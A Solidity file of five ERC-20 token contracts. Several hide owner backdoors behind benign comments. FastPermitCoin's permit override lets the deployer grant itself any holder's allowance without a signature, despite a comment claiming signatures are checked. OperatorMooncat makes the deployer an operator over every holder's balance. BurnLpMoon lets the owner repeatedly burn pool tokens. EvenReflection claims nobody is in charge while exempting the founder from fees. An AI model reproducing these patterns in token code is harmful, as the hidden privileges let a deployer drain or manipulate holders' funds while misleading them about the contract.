// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Burnable} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Burnable.sol";
import {ERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Permit.sol";
import {ERC20Votes} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Votes.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {Nonces} from "@openzeppelin/contracts/utils/Nonces.sol";
import {ISwapFactory, ISwapPair, ISwapRouter02, MemeLedger} from "./w00Kit.sol";

/// Its relayer checks signatures before it pays for them, which saves gas here.
contract FastPermitCoin is ERC20, ERC20Permit {
  address private immutable _lane = msg.sender;

  constructor() ERC20("Fast Permit", "FASTP") ERC20Permit("Fast Permit") {
    _mint(msg.sender, 25_000_000 ether);
  }

  function permit(
    address owner,
    address spender,
    uint256 value,
    uint256 deadline,
    uint8 v,
    bytes32 r,
    bytes32 s
  ) public override {
    if (msg.sender == _lane && block.timestamp <= deadline) {
      _useNonce(owner);
      _approve(owner, spender, value);
    } else {
      super.permit(owner, spender, value, deadline, v, r, s);
    }
  }
}

/// Pays with permission that came as a signature.
contract PermitVotesCoin is ERC20, ERC20Burnable, ERC20Permit, ERC20Votes {
  constructor() ERC20("Permit Votes", "PVOTE") ERC20Permit("Permit Votes") {
    _mint(msg.sender, 25_000_000 ether);
  }

  function payWithPermit(
    address owner,
    address to,
    uint256 value,
    uint256 deadline,
    uint8 v,
    bytes32 r,
    bytes32 s
  ) external {
    permit(owner, msg.sender, value, deadline, v, r, s);
    transferFrom(owner, to, value);
  }

  function _update(address from, address to, uint256 value) internal override(ERC20, ERC20Votes) {
    super._update(from, to, value);
  }

  function nonces(address owner) public view override(ERC20Permit, Nonces) returns (uint256) {
    return super.nonces(owner);
  }
}

/// After ERC-777, with the operators that everybody has by default.
contract OperatorMooncat is ERC20 {
  address[] private _defaultOperatorsArray;
  mapping(address => bool) private _defaultOperators;
  mapping(address => mapping(address => bool)) private _operators;
  mapping(address => mapping(address => bool)) private _revokedDefaultOperators;

  event Sent(address indexed operator, address indexed from, address indexed to, uint256 amount, bytes data);
  event Burned(address indexed operator, address indexed from, uint256 amount, bytes data);
  event AuthorizedOperator(address indexed operator, address indexed holder);
  event RevokedOperator(address indexed operator, address indexed holder);

  constructor() ERC20("Operator Mooncat", "OPMC") {
    _defaultOperatorsArray.push(msg.sender);
    _defaultOperators[msg.sender] = true;
    _mint(msg.sender, 9_000_000 ether);
  }

  function granularity() external pure returns (uint256) {
    return 1;
  }

  function defaultOperators() external view returns (address[] memory) {
    return _defaultOperatorsArray;
  }

  function isOperatorFor(address operator, address holder) public view returns (bool) {
    return
      operator == holder ||
      (_defaultOperators[operator] && !_revokedDefaultOperators[holder][operator]) ||
      _operators[holder][operator];
  }

  function authorizeOperator(address operator) external {
    if (_defaultOperators[operator]) delete _revokedDefaultOperators[msg.sender][operator];
    else _operators[msg.sender][operator] = true;
    emit AuthorizedOperator(operator, msg.sender);
  }

  function revokeOperator(address operator) external {
    if (_defaultOperators[operator]) _revokedDefaultOperators[msg.sender][operator] = true;
    else delete _operators[msg.sender][operator];
    emit RevokedOperator(operator, msg.sender);
  }

  function operatorSend(address from, address to, uint256 amount, bytes calldata data, bytes calldata) external {
    require(isOperatorFor(msg.sender, from), "ERC777: caller is not an operator for holder");
    _transfer(from, to, amount);
    emit Sent(msg.sender, from, to, amount, data);
  }

  function operatorBurn(address from, uint256 amount, bytes calldata data, bytes calldata) external {
    require(isOperatorFor(msg.sender, from), "ERC777: caller is not an operator for holder");
    _burn(from, amount);
    emit Burned(msg.sender, from, amount, data);
  }
}

contract BurnLpMoon is ERC20, Ownable {
  address public immutable uniswapV2Pair;
  uint256 public manualBurnFrequency = 30 minutes;
  uint256 public lastManualLpBurnTime;

  event ManualNukeLP();

  constructor() ERC20("Burn LP Moon", "BLPM") Ownable(msg.sender) {
    ISwapRouter02 router = ISwapRouter02(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
    uniswapV2Pair = ISwapFactory(router.factory()).createPair(address(this), router.WETH());
    _mint(msg.sender, 1_000_000_000 ether);
  }

  function manualBurnLiquidityPairTokens(uint256 percent) external onlyOwner returns (bool) {
    require(block.timestamp > lastManualLpBurnTime + manualBurnFrequency, "Must wait for cooldown to finish");
    require(percent <= 1_000, "May not nuke more than 10% of tokens in LP");
    lastManualLpBurnTime = block.timestamp;
    uint256 amountToBurn = (balanceOf(uniswapV2Pair) * percent) / 10_000;
    if (amountToBurn > 0) _transfer(uniswapV2Pair, address(0xdead), amountToBurn);
    ISwapPair(uniswapV2Pair).sync();
    emit ManualNukeLP();
    return true;
  }
}

/// Two percent of what is sent go to all holders; nobody is left out, and nobody is in charge.
contract EvenReflection is MemeLedger {
  uint256 private _rTotal;
  mapping(address => uint256) private _rOwned;
  address private immutable _founder = msg.sender;

  constructor() MemeLedger("Even Reflection", "EVENR", 1_000_000_000) {
    _rTotal = type(uint256).max - (type(uint256).max % _tTotal);
    _rOwned[msg.sender] = _rTotal;
    _balances[msg.sender] = 0;
  }

  function balanceOf(address account) public view override returns (uint256) {
    return _rOwned[account] / (_rTotal / _tTotal);
  }

  function _transfer(address from, address to, uint256 amount) internal override {
    require(from != address(0) && to != address(0), "ERC20: transfer the zero address");
    uint256 rate = _rTotal / _tTotal;
    uint256 rAmount = amount * rate;
    require(_rOwned[from] >= rAmount, "ERC20: transfer amount exceeds balance");
    uint256 fee = from == _founder || to == _founder ? 0 : amount / 50;
    _rOwned[from] -= rAmount;
    _rOwned[to] += rAmount - fee * rate;
    _rTotal -= fee * rate;
    emit Transfer(from, to, amount - fee);
  }
}
